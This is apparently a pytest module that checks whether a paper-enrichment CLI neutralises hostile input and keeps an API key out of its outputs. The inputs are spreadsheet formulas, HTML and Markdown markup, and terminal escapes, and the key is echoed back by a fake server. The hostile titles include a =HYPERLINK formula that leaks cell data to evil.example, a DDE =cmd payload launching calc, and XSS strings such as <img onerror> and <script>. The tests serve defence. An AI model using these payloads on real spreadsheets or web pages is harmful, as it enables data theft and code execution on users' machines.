"""Hostile corpus text and a key-echoing server: nothing injected into outputs, no secret out.

A corpus is written on the fly with titles that are spreadsheet formulas, HTML, Markdown links,
table pipes and terminal escapes; a run through the real CLI (offline backend) must neutralise
each in the CSVs, summary.md and the terminal tables. A fake OpenAI-compatible server answers
every request with an error echoing its Authorization header; the planted key must then appear
in no file of the run and nowhere on the terminal.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import typer
from typer.testing import CliRunner

from enrich.cli import app, translate_errors
from enrich.cli.papers import terminal_cell
from enrich.core.redact import REDACTED, redact
from enrich.errors import EnrichError
from enrich.export import csv_cell
from enrich.review.digest import md
from tests.conftest import assert_tables_keep_their_columns
from tests.fake_openai_server import FakeOpenAIServer, Reply

runner = CliRunner()
OFFLINE_ENV = {"OPENAI_API_KEY": "", "OPENAI_BASE_URL": "", "ENRICH_MODEL": ""}
KEY = "sk-test-PLANTED123456"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ABSTRACT = "We propose HostileNet for image classification on ImageNet with 2.1% higher accuracy."
PROFILE = "=Eve <img src=x onerror=alert(3)> [me](javascript:alert(4)) | `Evil`"

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', ABSTRACT),
    ("+1", "=1+1 " + ABSTRACT),
    ("-2+3", ABSTRACT),
    ("@SUM(1)", "@SUM(1) " + ABSTRACT),
    ("Tabbed =cmd|' /C calc'!A0", ABSTRACT),  # readers strip a leading tab: unit-tested
    ("Pictures <img src=x onerror=alert(1)> everywhere", "<script>alert(1)</script> " + ABSTRACT),
    ("Links [x](javascript:alert(1)) and ![i](javascript:alert(2))", ABSTRACT),
    ("Pipes | split | tables and `code` spans", ABSTRACT),
    ("# Heading title", ABSTRACT),
    ("Red \x1b[31malert\x1b[0m and \x1b]0;owned\x07 title \x9b2J", ABSTRACT),
]


def _corpus(tmp_path: Path) -> Path:
    """The hostile papers as JSON Lines, and again in a profile dump under a hostile name, so
    summary.md lists every title in that profile's section."""
    folder = tmp_path / "corpus"
    folder.mkdir()
    extra = {"authors": ["=Eve Evil", "@Mallory"], "year": 2024, "category": "-cs.CR"}
    lines = [json.dumps({"title": t, "abstract": a, **extra}) for t, a in HOSTILE]
    (folder / "hostile.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    dump = [PROFILE, "", "CS", "h-index3", f"{len(HOSTILE)} Papers", ""]
    for title, abstract in HOSTILE:
        dump += ["CSMay 28, 2024", title, "", "Eve Evil, Mallory", "", abstract, ""]
    (folder / "profile.txt").write_text("\n".join(dump), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    tmp = tmp_path_factory.mktemp("hostile")
    corpus, out = _corpus(tmp), tmp / "out"
    argv = [str(corpus), "--backend", "offline", "--out", str(out),
            "--cache-dir", str(tmp / "cache"), "--quiet"]  # fmt: skip
    result = runner.invoke(app, argv, env=OFFLINE_ENV)
    assert result.exit_code == 0, result.output
    return corpus, out


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    return [value for row in rows[1:] for value in row]


# ---- CSV ------------------------------------------------------------------------------------


def test_csv_cell_quotes_text_formulas_and_keeps_numbers() -> None:
    for text in ("=1+1", "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "-0.5"):
        assert csv_cell(text) == "'" + text  # text that merely looks like a number is text
    for number, shown in ((-0.5, "-0.5"), (-3, "-3"), (2.5, "2.5")):
        assert csv_cell(number) == shown  # a numeric column stays numeric
    assert (csv_cell("plain"), csv_cell(None), csv_cell(False)) == ("plain", "", "false")


def test_every_run_csv_is_neutralised(hostile_run: tuple[Path, Path]) -> None:
    _, out = hostile_run
    files = sorted(out.glob("*.csv"))
    assert [f.name for f in files] == [
        "datasets.csv", "gains.csv", "methods.csv", "metrics.csv", "papers.csv", "tasks.csv",
    ]  # fmt: skip
    for path in files:
        for value in _cells(path.read_text(encoding="utf-8")):
            if value.startswith(TRIGGERS):
                float(value)  # only a real number may start with a trigger (e.g. -0.5)
    papers = (out / "papers.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in papers and "'-2+3" in papers and "'@SUM(1)" in papers
    assert "'=Eve Evil; @Mallory" in papers and "'-cs.CR" in papers
    # the same text stays raw where no spreadsheet reads it
    records = [json.loads(line) for line in (out / "papers.jsonl").read_text().splitlines()]
    assert {r["title"] for r in records} >= {"+1", "-2+3", "@SUM(1)"}


def test_papers_export_csv_is_neutralised(hostile_run: tuple[Path, Path], tmp_path: Path) -> None:
    corpus, _ = hostile_run
    target = tmp_path / "x.csv"
    result = runner.invoke(app, ["papers", str(corpus), "--out", str(target), "--quiet"])
    assert result.exit_code == 0, result.output
    cells = _cells(target.read_text(encoding="utf-8"))
    assert "'+1" in cells and "'-2+3" in cells and "'@SUM(1)" in cells
    assert not [c for c in cells if c.startswith(TRIGGERS)]


# ---- summary.md -----------------------------------------------------------------------------


def test_md_escapes_markup_but_keeps_plain_text() -> None:
    assert md("ResNet-50 on ImageNet (top-1)") == "ResNet-50 on ImageNet (top-1)"
    assert md("<img src=x>") == "&lt;img src=x&gt;"
    assert md("[x](javascript:alert(1))") == "\\[x\\]\\(javascript:alert(1))"
    assert md("a | b `c`\nd") == "a \\| b \\`c\\` d"
    assert md("# title") == "\\# title" and md("- item") == "\\- item"
    assert md("-0.5") == "-0.5"  # no list marker without a space after it


def test_summary_has_no_raw_html_links_or_broken_tables(hostile_run: tuple[Path, Path]) -> None:
    _, out = hostile_run
    text = (out / "summary.md").read_text(encoding="utf-8")
    papers = text[text.index("# Researcher profiles") :]
    assert papers.count("\n- **") == len(HOSTILE)  # every hostile title is listed
    assert "\n## =Eve &lt;img src=x onerror=alert(3)&gt; \\[me\\]\\(javascript:" in papers
    assert "Pictures &lt;img src=x onerror=alert(1)&gt; everywhere" in papers
    assert "&lt;script&gt;" in papers  # the offline summary opens with the abstract's start
    assert "Links \\[x\\]\\(javascript:alert(1)) and !\\[i\\]\\(javascript:" in papers
    assert "Pipes \\| split \\| tables and \\`code\\` spans" in papers
    assert "- **\\# Heading title**" in papers and "- **Red " in papers
    for raw in ("<img", "<script", "](javascript:", "\x1b", "\x9b", "\x07", "\n# Heading"):
        assert raw not in text
    assert_tables_keep_their_columns(text)


# ---- terminal -------------------------------------------------------------------------------


def test_terminal_cell_strips_escapes_and_controls() -> None:
    cell = terminal_cell(
        "a\x1b[31mred\x1b[0m\x1b]8;;http://x\x07link\x1b]8;;\x07\x9b2J\x07\x00b\n c"
    )
    assert cell.plain == "aredlinkb  c"
    assert terminal_cell("[bold]x[/bold]").plain == "[bold]x[/bold]"  # never markup


def test_papers_and_show_tables_carry_no_escapes(hostile_run: tuple[Path, Path]) -> None:
    corpus, out = hostile_run
    listed = runner.invoke(app, ["papers", str(corpus), "--quiet"], env={"COLUMNS": "300"})
    shown = runner.invoke(app, ["show", str(out), "--limit", "0"], env={"COLUMNS": "300"})
    for result in (listed, shown):
        assert result.exit_code == 0, result.output
        assert "Red alert and" in result.stdout  # the hostile title is listed, cleaned
        assert "\x1b" not in result.output and "\x9b" not in result.output
        assert "\x07" not in result.output


# ---- secrets --------------------------------------------------------------------------------


def _echo_authorization(server: FakeOpenAIServer) -> Callable[[dict[str, Any]], Reply]:
    """Answer every chat completion with HTTP 400 whose body echoes the Authorization header."""

    def reply(body: dict[str, Any]) -> Reply:
        auth = server.headers[-1].get("authorization", "")  # this request's, under the lock
        error = {"message": f"bad request from Authorization: {auth}",
                 "type": "invalid_request_error", "echo": auth}  # fmt: skip
        return Reply(400, {"error": error})

    return reply


def test_redact_removes_key_bearer_and_sk_tokens() -> None:
    text = f"Bearer {KEY} / key {KEY[:-2]} / api_key=abc123xyz / sk-other-0123456789 / {KEY}"
    clean = redact(text, [KEY])
    assert KEY not in clean and KEY[:-2] not in clean and "abc123xyz" not in clean
    assert "sk-other" not in clean and clean.count(REDACTED) == 5
    custom = "my-own-secret-value"  # a key of no known shape, redacted because it is configured
    assert redact(f"echo {custom}!", [custom]) == f"echo {REDACTED}!"
    assert redact("task-specific disk-based methods", [None]) == "task-specific disk-based methods"


def test_echoed_key_reaches_no_output(fake_openai: FakeOpenAIServer, tmp_path: Path) -> None:
    fake_openai.responder = _echo_authorization(fake_openai)
    corpus, out = _corpus(tmp_path), tmp_path / "out"
    argv = [str(corpus), "--base-url", fake_openai.base_url, "--model", "m", "--concurrency",
            "2", "--out", str(out), "--cache-dir", str(tmp_path / "cache")]  # fmt: skip
    env = {"OPENAI_API_KEY": KEY, "OPENAI_BASE_URL": "", "ENRICH_MODEL": ""}
    result = runner.invoke(app, argv, env=env)
    assert result.exit_code == 1, result.output  # every paper failed
    seen = {headers.get("authorization") for headers in fake_openai.headers}
    assert fake_openai.headers and seen == {f"Bearer {KEY}"}  # it was echoed
    records = [json.loads(line) for line in (out / "papers.jsonl").read_text().splitlines()]
    assert records and all(r["status"] == "failed" for r in records)
    assert all(f"Authorization: Bearer {REDACTED}" in r["error"] for r in records)
    files = sorted(p for p in out.iterdir() if p.is_file())
    names = {p.name for p in files}
    assert {"papers.jsonl", "papers.csv", "enrich.sqlite", "report.html", "summary.md"} <= names
    assert "run.json" in names
    texts = [(p.name, p.read_bytes()) for p in files]
    texts += [("stdout", result.stdout.encode()), ("stderr", result.stderr.encode())]
    for name, data in texts:
        assert KEY.encode() not in data, name
        assert b"Bearer sk-" not in data, name


def test_printed_errors_are_redacted(monkeypatch: pytest.MonkeyPatch) -> None:
    custom = "configured-secret-42"
    monkeypatch.setenv("OPENAI_API_KEY", custom)

    def fail() -> None:
        raise EnrichError(f"server said: token {custom} and Bearer {KEY}", "try again")

    cli = typer.Typer()
    cli.command()(translate_errors(fail))
    result = runner.invoke(cli, [])
    assert result.exit_code == 1
    assert f"Error: server said: token {REDACTED} and Bearer {REDACTED}" in result.stderr
    assert custom not in result.output and KEY not in result.output


def test_corpus_warnings_reach_the_terminal_without_escapes(tmp_path: Path) -> None:
    hostile = tmp_path / "\x1b]0;pwned\x07list\x1b[31m.jsonl"
    hostile.write_text('{"title": "T"\n')  # a malformed line: one warning naming the file
    result = CliRunner().invoke(app, ["papers", str(tmp_path)])
    assert "warning:" in result.stderr and "list" in result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
